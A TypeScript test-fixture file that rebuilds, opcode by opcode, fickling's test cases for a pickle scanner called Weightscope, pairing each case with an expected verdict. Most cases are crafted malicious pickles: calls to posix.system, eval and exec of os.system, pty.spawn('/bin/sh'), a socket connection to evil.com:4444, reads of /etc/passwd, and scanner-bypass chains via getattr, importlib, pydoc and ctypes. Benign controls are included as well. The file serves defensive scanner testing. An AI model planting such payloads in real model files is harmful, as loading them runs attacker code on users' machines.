/**
 * What fickling's test suite (trailofbits/fickling, `test/`) expects a pickle scanner to flag,
 * rebuilt here opcode by opcode (fickling ships no sample files). Each case names the fickling
 * test it comes from and maps fickling's severity to Weightscope's verdicts:
 * - `dangerous`: fickling expects LIKELY_OVERTLY_MALICIOUS or worse → the named globals are
 *   `dangerous`;
 * - `flagged`: fickling expects more than LIKELY_SAFE (SUSPICIOUS, LIKELY_UNSAFE) → the named
 *   globals are flagged (`unsafe`: warning `unsafe-global`), dangerous or not;
 * - `safe`: fickling expects LIKELY_SAFE → nothing flagged, no dangerous verdict;
 * - `not-dangerous`: fickling expects less than LIKELY_OVERTLY_MALICIOUS → no dangerous verdict.
 */
import { Call, V, call, dumps, g, op, ops, reducePayload, storedZip, tuple } from './pickle-builder';

export type Expect = 'dangerous' | 'flagged' | 'safe' | 'not-dangerous';

export interface FicklingCase {
  /** fickling's test file and function. */
  source: string;
  name: string;
  bytes: Uint8Array;
  /** File name to open it as (the extension matters for some cases). */
  file: string;
  expect: Expect;
  /** Globals (as the pickle names them) that must carry the expected verdict. */
  globals?: string[];
}

const ALL = [0, 1, 2, 3, 4, 5];
const HIGHER = [2, 3, 4, 5];
const latin1 = (s: string) => Uint8Array.from(Buffer.from(s, 'latin1'));
/** `__builtin__` below protocol 3, `builtins` from 3 on, as Python's pickler writes them. */
const builtin = (name: string, p: number) => `${p < 3 ? '__builtin__' : 'builtins'}.${name}`;

function perProtocol(
  source: string,
  module: string,
  func: string,
  args: V[],
  expect: Expect,
  named: (p: number) => string[] = () => [`${module}.${func}`],
  protocols = ALL,
): FicklingCase[] {
  return protocols.map((p) => ({ source, name: `${module}.${func} (protocol ${p})`, bytes: reducePayload(module, func, args, p), file: 'case.pkl', expect, globals: named(p) }));
}

/** test/test_attack_vectors.py: make_malicious_pickle(module, func, args, protocol) for protocols 0-5. */
function attackVectors(): FicklingCase[] {
  const s = 'test_attack_vectors.py';
  const code = latin1('\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x05\x00\x00\x00@\x00\x00\x00s\x16\x00\x00\x00');
  return [
    ...perProtocol(`${s}::test_os_system`, 'posix', 'system', ['id'], 'dangerous'),
    ...perProtocol(`${s}::test_os_popen`, 'os', 'popen', ['id'], 'dangerous'),
    ...perProtocol(`${s}::test_os_execv`, 'posix', 'execv', ['/bin/sh', ['/bin/sh', '-c', 'id']], 'dangerous'),
    ...perProtocol(`${s}::test_subprocess_call`, 'subprocess', 'call', [['id']], 'flagged'),
    ...perProtocol(`${s}::test_subprocess_popen`, 'subprocess', 'Popen', [['id']], 'flagged'),
    ...perProtocol(`${s}::test_subprocess_run`, 'subprocess', 'run', [['id']], 'flagged'),
    ...perProtocol(`${s}::test_subprocess_check_output`, 'subprocess', 'check_output', [['id']], 'flagged'),
    ...perProtocol(`${s}::test_builtins_eval`, 'builtins', 'eval', ["__import__('os').system('id')"], 'dangerous', (p) => [builtin('eval', p)]),
    ...perProtocol(`${s}::test_builtins_exec`, 'builtins', 'exec', ["import os; os.system('id')"], 'dangerous', (p) => [builtin('exec', p)]),
    ...perProtocol(`${s}::test_builtins_compile`, 'builtins', 'compile', ["import os; os.system('id')", '<string>', 'exec'], 'dangerous', (p) => [builtin('compile', p)]),
    ...perProtocol(`${s}::test_builtins_import`, 'builtins', '__import__', ['os'], 'dangerous', (p) => [builtin('__import__', p)]),
    ...perProtocol(`${s}::test_builtins_getattr`, 'builtins', 'getattr', [g('builtins', 'object'), '__class__'], 'dangerous', (p) => [builtin('getattr', p)]),
    ...perProtocol(`${s}::test_socket_create_connection`, 'socket', 'create_connection', [tuple('evil.com', 4444)], 'dangerous'),
    ...perProtocol(`${s}::test_socket_socket`, 'socket', 'socket', [], 'dangerous'),
    ...perProtocol(`${s}::test_runpy_run_path`, 'runpy', 'run_path', ['/tmp/malicious.py'], 'flagged'),
    ...perProtocol(`${s}::test_runpy_run_module`, 'runpy', 'run_module', ['os'], 'flagged'),
    ...perProtocol(`${s}::test_cprofile_run`, 'cProfile', 'run', ["import os; os.system('id')"], 'flagged'),
    ...perProtocol(`${s}::test_code_interactiveinterpreter`, 'code', 'InteractiveInterpreter', [], 'flagged'),
    ...perProtocol(`${s}::test_importlib_import_module`, 'importlib', 'import_module', ['os'], 'flagged'),
    ...perProtocol(`${s}::test_marshal_loads`, 'marshal', 'loads', [code], 'flagged'),
    {
      source: `${s}::test_types_functiontype`,
      name: 'types.FunctionType, named only',
      bytes: ops(op.Proto(4), op.Frame(30), op.ShortBinUnicode('types'), op.Memoize(), op.ShortBinUnicode('FunctionType'), op.Memoize(), op.StackGlobal(), op.Memoize(), op.Stop()),
      file: 'case.pkl',
      expect: 'flagged',
      globals: ['types.FunctionType'],
    },
    ...perProtocol(`${s}::test_ctypes_cdll`, 'ctypes', 'CDLL', ['libc.so.6'], 'flagged'),
    ...perProtocol(`${s}::test_pty_spawn`, 'pty', 'spawn', ['/bin/sh'], 'dangerous'),
    ...perProtocol(`${s}::test_pydoc_locate`, 'pydoc', 'locate', ['os.system'], 'flagged'),
    ...perProtocol(`${s}::test_multiprocessing_util_spawnv_passfds`, 'multiprocessing.util', 'spawnv_passfds', [latin1('/bin/sh'), [latin1('/bin/sh'), latin1('-c'), latin1('id')], tuple()], 'flagged'),
    ...perProtocol(`${s}::test_sys_exit`, 'sys', 'exit', [0], 'flagged'),
    ...perProtocol(`${s}::test_posix_system`, 'posix', 'system', ['id'], 'dangerous'),
  ];
}

/** test/test_bypasses.py: crafted opcode sequences (advisories GHSA-...). */
function bypasses(): FicklingCase[] {
  const s = 'test_bypasses.py';
  const c = (name: string, expect: Expect, globals: string[], bytes: Uint8Array): FicklingCase => ({ source: `${s}::${name}`, name, bytes, file: 'case.pkl', expect, globals });
  const SBU = op.ShortBinUnicode;
  const M = op.Memoize;
  const marshalCode = latin1('\xe3' + '\x00'.repeat(23) + '\x05\x00\x00\x00@\x00\x00\x00s\x10\x00\x00\x00d\x00d\x01l\x00Z\x00');
  const cases: FicklingCase[] = [
    c('test_missing_pty_unsafe_imports_ghsa', 'flagged', ['pty.spawn'], ops(op.Proto(4), op.Frame(26), SBU('pty'), M(), SBU('spawn'), M(), op.StackGlobal(), M(), SBU('id'), M(), op.TupleOne(), M(), op.Reduce(), M(), SBU('gottem'), M(), op.Build(), op.Stop())),
    c('test_missing_pty_unsafe_imports_pr', 'flagged', ['pty.spawn'], ops(op.Mark(), op.Global('pty', 'spawn'), op.String('id'), op.Obj(), op.Stop())),
    c(
      'test_missing_marshal_and_types',
      'flagged',
      ['marshal.loads', 'types.FunctionType'],
      ops(
        op.Proto(4), op.Frame(0), SBU('marshal'), SBU('loads'), op.StackGlobal(), M(), op.BinGet(0), op.ShortBinBytes(marshalCode), op.TupleOne(), op.Reduce(), M(),
        SBU('types'), SBU('FunctionType'), op.StackGlobal(), M(), op.BinGet(2), op.BinGet(1), op.EmptyDict(), op.TupleTwo(), op.Reduce(), M(),
        op.BinGet(3), op.EmptyTuple(), op.Reduce(), M(), SBU('gottem'), op.Build(), op.Stop(),
      ),
    ),
    c('test_missing_runpy', 'flagged', ['runpy.run_path'], ops(op.Proto(5), op.Frame(46), SBU('runpy'), M(), SBU('run_path'), M(), op.StackGlobal(), M(), SBU('/tmp/malicious.py'), M(), op.TupleOne(), M(), op.Reduce(), M(), op.Stop())),
    c('test_missing_cprofile', 'flagged', ['cProfile.run'], ops(op.Proto(5), op.Frame(58), SBU('cProfile'), M(), SBU('run'), M(), op.StackGlobal(), M(), SBU("print('CPROFILE_RCE_CONFIRMED')"), M(), op.TupleOne(), M(), op.Reduce(), M(), op.Stop())),
    c(
      'test_missing_ctypes',
      'flagged',
      ['ctypes.CDLL', 'builtins.getattr'],
      ops(
        op.Proto(5), SBU('builtins'), M(), SBU('getattr'), M(), op.StackGlobal(), M(), SBU('ctypes'), M(), SBU('CDLL'), M(), op.StackGlobal(), M(),
        SBU('libc.dylib'), M(), op.TupleOne(), M(), op.Reduce(), M(), SBU('system'), M(), op.TupleTwo(), M(), op.Reduce(), M(),
        op.ShortBinBytes('id'), M(), op.TupleOne(), M(), op.Reduce(), M(), op.Stop(),
      ),
    ),
    c(
      'test_missing_pydoc',
      'flagged',
      ['pydoc.locate'],
      ops(
        op.Global('pydoc', 'locate'), op.String('ctypes.windll.kernel32.WinExec'), op.TupleOne(), op.Reduce(), op.Put(0), op.Pop(),
        op.Get(0), op.ShortBinBytes('calc.exe'), op.BinInt1(1), op.TupleTwo(), op.Reduce(), op.Put(1), op.Pop(),
        op.Global('builtins', 'Exception'), op.EmptyTuple(), op.Reduce(), op.Put(2), op.EmptyDict(), op.String('rce_status'), op.Get(1), op.SetItem(), op.Build(), op.Stop(),
      ),
    ),
    c(
      'test_missing_importlib',
      'flagged',
      ['importlib.import_module', 'builtins.getattr'],
      ops(
        op.Proto(5), SBU('builtins'), M(), SBU('getattr'), M(), op.StackGlobal(), M(), SBU('importlib'), M(), SBU('import_module'), M(), op.StackGlobal(), M(),
        SBU('os'), M(), op.TupleOne(), M(), op.Reduce(), M(), SBU('system'), M(), op.TupleTwo(), M(), op.Reduce(), M(), SBU('id'), M(), op.TupleOne(), M(), op.Reduce(), M(), op.Stop(),
      ),
    ),
    c(
      'test_missing_code',
      'flagged',
      ['code.InteractiveInterpreter', 'builtins.getattr'],
      ops(
        op.Proto(5), SBU('builtins'), M(), SBU('getattr'), M(), op.StackGlobal(), M(), SBU('code'), M(), SBU('InteractiveInterpreter'), M(), op.StackGlobal(), M(),
        op.EmptyTuple(), M(), op.Reduce(), M(), SBU('runsource'), M(), op.TupleTwo(), M(), op.Reduce(), M(), SBU('import os; os.system("id")'), M(), op.TupleOne(), M(), op.Reduce(), M(), op.Stop(),
      ),
    ),
    c(
      'test_missing_multiprocessing',
      'flagged',
      ['multiprocessing.util.spawnv_passfds'],
      ops(
        op.Proto(5), op.Frame(74), SBU('multiprocessing.util'), M(), SBU('spawnv_passfds'), M(), op.StackGlobal(), M(), op.ShortBinBytes('/bin/sh'), M(), op.EmptyList(), M(),
        op.Mark(), op.BinGet(3), op.ShortBinBytes('-c'), M(), op.ShortBinBytes('id'), M(), op.Appends(), op.EmptyTuple(), op.TupleThree(), M(), op.Reduce(), M(), op.Stop(),
      ),
    ),
    c(
      'test_builtins_import_bypass',
      'flagged',
      ['builtins.getattr', 'builtins.__import__'],
      ops(
        op.Global('builtins', '__import__'), op.String('os'), op.TupleOne(), op.Reduce(), op.Put(0), op.Pop(),
        op.Global('builtins', 'getattr'), op.Get(0), op.String('system'), op.TupleTwo(), op.Reduce(), op.Put(1), op.Pop(), op.Get(1), op.String('whoami'), op.TupleOne(), op.Reduce(), op.Stop(),
      ),
    ),
    c('test_safe_builtins_not_flagged', 'safe', [], ops(op.Global('builtins', 'len'), op.EmptyList(), op.TupleOne(), op.Reduce(), op.Stop())),
    c('test_safe_builtin_dict_not_flagged', 'safe', [], ops(op.Global('builtins', 'dict'), op.EmptyTuple(), op.Reduce(), op.Stop())),
    c('test_unsafe_builtins_still_flagged', 'flagged', ['builtins.getattr'], ops(op.Global('builtins', 'getattr'), op.String('os'), op.String('system'), op.TupleTwo(), op.Reduce(), op.Stop())),
    c('test_unsafe_builtin_eval_still_flagged', 'flagged', ['builtins.eval'], ops(op.Global('builtins', 'eval'), op.String("print('hello')"), op.TupleOne(), op.Reduce(), op.Stop())),
    c(
      'test_operator_methodcaller',
      'flagged',
      ['_operator.methodcaller', 'builtins.__import__'],
      ops(
        op.Global('builtins', '__import__'), op.Mark(), op.Unicode('os'), op.Tuple(), op.Reduce(), op.Put(0), op.Pop(),
        op.Global('_operator', 'methodcaller'), op.Mark(), op.Unicode('system'), op.Unicode('echo "pwned by _operator.methodcaller"'), op.Tuple(), op.Reduce(),
        op.Mark(), op.Get(0), op.Tuple(), op.Reduce(), op.Stop(),
      ),
    ),
    c(
      'test_distutils_write_file',
      'flagged',
      ['distutils.file_util.write_file'],
      ops(op.Proto(4), SBU('distutils.file_util'), SBU('write_file'), op.StackGlobal(), SBU('/tmp/malicious.txt'), op.Mark(), SBU('malicious content'), op.List(), op.TupleTwo(), op.Reduce(), op.Stop()),
    ),
    c('test_io_fileio', 'flagged', ['_io.FileIO'], ops(op.Proto(4), SBU('_io'), SBU('FileIO'), op.StackGlobal(), SBU('/etc/passwd'), op.TupleOne(), op.Reduce(), op.Stop())),
    c(
      'test_numpy_f2py_getlincoef',
      'flagged',
      ['numpy.f2py.crackfortran.getlincoef'],
      ops(op.Proto(4), SBU('numpy.f2py.crackfortran'), SBU('getlincoef'), op.StackGlobal(), SBU("__import__('os').system('id')"), op.EmptyDict(), op.TupleTwo(), op.Reduce(), op.Stop()),
    ),
    ...(
      [
        ['smtplib', 'SMTP', 25],
        ['imaplib', 'IMAP4', 143],
        ['ftplib', 'FTP', 21],
        ['poplib', 'POP3', 110],
        ['telnetlib', 'Telnet', 23],
        ['nntplib', 'NNTP', 119],
      ] as const
    ).map(([module, cls, port]) =>
      c(`test_network_protocol_ssrf[${module}]`, 'flagged', [`${module}.${cls}`], ops(op.Proto(4), op.Global(module, cls), SBU('127.0.0.1'), op.BinInt2(port), op.TupleTwo(), op.Reduce(), op.EmptyDict(), op.Build(), op.Stop())),
    ),
    c(
      'test_asyncio_subprocess',
      'flagged',
      ['asyncio.unix_events._UnixSubprocessTransport._start'],
      ops(
        op.Proto(4), op.Frame(81), SBU('asyncio.unix_events'), M(), SBU('_UnixSubprocessTransport._start'), M(), op.StackGlobal(), M(),
        op.Mark(), op.EmptyDict(), M(), SBU('whoami'), M(), op.NewTrue(), op.NoneOpcode(), op.NoneOpcode(), op.NoneOpcode(), op.BinInt1(0), op.Tuple(), M(), op.Reduce(), M(), op.Stop(),
      ),
    ),
    c('test_obj_pop_call_invisibility', 'flagged', ['smtplib.SMTP'], ops(op.Proto(4), op.Mark(), SBU('smtplib'), SBU('SMTP'), op.StackGlobal(), SBU('127.0.0.1'), op.Obj(), op.Pop(), op.NoneOpcode(), op.Stop())),
  ];
  return cases;
}

function stackGlobalOnly(module: string, name: string): Uint8Array {
  return ops(op.Proto(4), op.Frame(50), op.ShortBinUnicode(module), op.Memoize(), op.ShortBinUnicode(name), op.Memoize(), op.StackGlobal(), op.Memoize(), op.Stop());
}

/** test/test_cve_patterns.py (CVE-2025-10155/10156/10157 patterns). */
function cvePatterns(): FicklingCase[] {
  const s = 'test_cve_patterns.py';
  const system = reducePayload('posix', 'system', ['id'], 4);
  const c = (name: string, expect: Expect, globals: string[], bytes: Uint8Array, file = 'case.pkl'): FicklingCase => ({ source: `${s}::${name}`, name, bytes, file, expect, globals });
  return [
    c('test_submodule_bypass_os_path', 'flagged', ['posixpath.join'], reducePayload('posixpath', 'join', ['/', 'tmp'], 4)),
    c('test_submodule_bypass_subprocess_internal', 'dangerous', ['subprocess.Popen'], stackGlobalOnly('subprocess', 'Popen')),
    c('test_submodule_bypass_multiprocessing_util', 'flagged', ['multiprocessing.util.spawnv_passfds'], reducePayload('multiprocessing.util', 'spawnv_passfds', [], 4)),
    c('test_submodule_bypass_ctypes_util', 'flagged', ['ctypes.util.find_library'], reducePayload('ctypes.util', 'find_library', ['c'], 4)),
    c('test_submodule_bypass_importlib_util', 'flagged', ['importlib.util.find_spec'], reducePayload('importlib.util', 'find_spec', ['os'], 4)),
    c('test_hierarchical_module_detection', 'flagged', ['multiprocessing.util.spawnv_passfds'], stackGlobalOnly('multiprocessing.util', 'spawnv_passfds')),
    c('test_corrupted_zip_still_scanned', 'dangerous', ['posix.system'], storedZip([['data.pkl', system]], { corruptCentralCrc: true }), 'case.zip'),
    c('test_valid_zip_with_malicious_pickle', 'dangerous', ['posix.system'], storedZip([['model/data.pkl', system]]), 'case.zip'),
    c('test_extension_agnostic_detection_bin', 'dangerous', ['posix.system'], system, 'case.bin'),
    c('test_extension_agnostic_detection_pt', 'flagged', ['subprocess.call'], reducePayload('subprocess', 'call', [['id']], 4), 'case.pt'),
    c('test_extension_agnostic_detection_pth', 'dangerous', ['builtins.eval'], reducePayload('builtins', 'eval', ['1+1'], 4), 'case.pth'),
    c('test_extension_agnostic_detection_no_extension', 'dangerous', ['socket.socket'], reducePayload('socket', 'socket', [], 4), 'case'),
    c('test_extension_agnostic_detection_misleading_txt', 'dangerous', ['pty.spawn'], reducePayload('pty', 'spawn', ['/bin/sh'], 4), 'case.txt'),
    c('test_nested_module_in_unsafe_namespace', 'flagged', ['sys.modules'], stackGlobalOnly('sys', 'modules')),
    c('test_code_module_submodules', 'flagged', ['code.InteractiveConsole'], reducePayload('code', 'InteractiveConsole', [], 4)),
    c('test_runpy_submodules', 'flagged', ['runpy._run_code'], reducePayload('runpy', '_run_code', [], 4)),
  ];
}

/** test/test_analysis.py: globals named only, from the standard library → LIKELY_SAFE. */
function analysis(): FicklingCase[] {
  return [
    ['collections', 'deque'],
    ['collections.abc', 'Iterable'],
  ].map(([m, n]) => ({
    source: 'test_analysis.py::test_benign_pickle',
    name: `${m}.${n}, named only`,
    bytes: ops(op.Proto(4), op.ShortBinUnicode(m), op.ShortBinUnicode(n), op.StackGlobal(), op.Stop()),
    file: 'case.pkl',
    expect: 'safe' as Expect,
    globals: [],
  }));
}

/** test/test_benign_edge_cases.py: plain data (LIKELY_SAFE) and standard objects (not malicious), protocols 2-5. */
function benignEdgeCases(): FicklingCase[] {
  const s = 'test_benign_edge_cases.py';
  const mod = 'test_benign_edge_cases';
  const out: FicklingCase[] = [];
  const range = (n: number) => Array.from({ length: n }, (_, i) => i);
  const safe: [string, V][] = [
    ['test_primitive_types_safe[42]', 42],
    ['test_primitive_types_safe[3.14]', 3.14],
    ['test_primitive_types_safe[hello]', 'hello'],
    ['test_primitive_types_safe[True]', true],
    ['test_primitive_types_safe[False]', false],
    ['test_primitive_types_safe[None]', null],
    ['test_list_safe', [1, 2, 3, 'a', 'b', 'c']],
    ['test_dict_safe', new Map<V, V>([['key', 'value'], ['num', 42]])],
    ['test_tuple_with_many_elements_safe', tuple(...range(100))],
    ['test_deeply_nested_list_safe', [[[[[[1, 2, 3]]]]]]],
    ['test_deeply_nested_dict_safe', new Map<V, V>([['a', new Map<V, V>([['b', new Map<V, V>([['c', new Map<V, V>([['d', new Map<V, V>([['e', 1]])]])]])]])]])],
    ['test_large_list_safe', range(10000)],
    ['test_large_dict_safe', new Map<V, V>(range(1000).map((i) => [`key_${i}`, i]))],
    ['test_unicode_strings_safe', 'Hello 世界 🌍 αβγ'],
    ['test_empty_containers_safe[list]', []],
    ['test_empty_containers_safe[dict]', new Map()],
    ['test_empty_containers_safe[tuple]', tuple()],
    ['test_string_containing_exec_safe', 'You must exec this command manually'],
    ['test_string_containing_eval_safe', 'Please eval the results carefully'],
    ['test_string_containing_import_safe', 'import os is dangerous in pickles'],
    ['test_string_containing_os_safe', 'macOS and Windows are operating systems'],
    ['test_dict_with_suspicious_looking_keys_safe', new Map<V, V>(['exec', 'eval', '__reduce__', 'os', 'subprocess'].map((k) => [k, 'value']))],
    ['test_string_with_code_snippet_safe', "\n    import os\n    os.system('rm -rf /')\n    eval('malicious')\n    exec('code')\n    "],
  ];
  const dtype = (code: string, order: string) => new Call(g('numpy', 'dtype'), [code, false, true], tuple(3, order, null, null, null, -1, -1, 0));
  const array = (shape: number[], code: string, data: number[]) =>
    new Call(g('numpy.core.multiarray', '_reconstruct'), [g('numpy', 'ndarray'), tuple(0), latin1('b')], tuple(1, tuple(...shape), dtype(code, '<'), false, Uint8Array.from(data)));
  const newobj = (fn: string, args: V[], state?: V) => new Call(g(mod, fn), args, state, true);
  const notMalicious: [string, V][] = [
    ['test_datetime_not_malicious', call(g('datetime', 'datetime'), latin1('\x07\xe9\x0c\x02\x0a\x1e\x2d\x00\x00\x00'))],
    ['test_date_not_malicious', call(g('datetime', 'date'), latin1('\x07\xe9\x0c\x02'))],
    ['test_time_not_malicious', call(g('datetime', 'time'), latin1('\x0c\x1e\x2d\x00\x00\x00'))],
    ['test_timedelta_not_malicious', call(g('datetime', 'timedelta'), 1, 7200, 0)],
    ['test_timezone_not_malicious', call(g('datetime', 'timezone'), call(g('datetime', 'timedelta'), 0, 0, 0))],
    ['test_uuid_not_malicious', new Call(g('uuid', 'UUID'), [], new Map<V, V>([['int', 0x12345678123456781234567812345678n]]), true)],
    ['test_decimal_not_malicious', call(g('decimal', 'Decimal'), '123.456')],
    ['test_fraction_not_malicious', call(g('fractions', 'Fraction'), '1/3')],
    ['test_pathlib_not_malicious', call(g('pathlib', 'PurePosixPath'), '/', 'usr', 'local', 'bin')],
    ['test_ordered_dict_not_malicious', call(g('collections', 'OrderedDict'), [tuple('a', 1), tuple('b', 2)])],
    ['test_counter_not_malicious', call(g('collections', 'Counter'), new Map<V, V>([['a', 2], ['b', 1], ['c', 1]]))],
    ['test_enum_not_malicious', call(g(mod, 'SimpleEnum'), 'a')],
    ['test_int_enum_not_malicious', call(g(mod, 'SimpleIntEnum'), 1)],
    ['test_namedtuple_not_malicious', newobj('SimpleNamedTuple', [1, 'hello', 3.14])],
    ['test_dataclass_not_malicious', newobj('SimpleDataclass', [], new Map<V, V>([['name', 'test'], ['value', 42], ['items', [1, 2, 3]]]))],
    ['test_custom_getstate_setstate_not_malicious', newobj('CustomGetState', [], new Map<V, V>([['value', 42]]))],
    ['test_numpy_array_not_malicious', array([5], 'i8', range(40).map((i) => (i % 8 === 0 ? i / 8 + 1 : 0)))],
    ['test_numpy_multidimensional_not_malicious', array([2, 3], 'i8', range(48).map((i) => (i % 8 === 0 ? i / 8 + 1 : 0)))],
    ['test_numpy_scalar_not_malicious[int32]', call(g('numpy.core.multiarray', 'scalar'), dtype('i4', '<'), latin1('*\x00\x00\x00'))],
    ['test_numpy_scalar_not_malicious[float64]', call(g('numpy.core.multiarray', 'scalar'), dtype('f8', '<'), latin1('\x1f\x85\xebQ\xb8\x1e\t@'))],
  ];
  for (const p of HIGHER) {
    for (const [name, v] of safe) out.push({ source: `${s}::${name.replace(/\[.*$/, '')}`, name: `${name} (protocol ${p})`, bytes: dumps(v, p), file: 'case.pkl', expect: 'safe', globals: [] });
    for (const [name, v] of notMalicious) out.push({ source: `${s}::${name.replace(/\[.*$/, '')}`, name: `${name} (protocol ${p})`, bytes: dumps(v, p), file: 'case.pkl', expect: 'not-dangerous', globals: [] });
  }
  return out;
}

/** Every expectation, in a stable order. */
export function ficklingCases(): FicklingCase[] {
  return [...attackVectors(), ...bypasses(), ...cvePatterns(), ...analysis(), ...benignEdgeCases()];
}
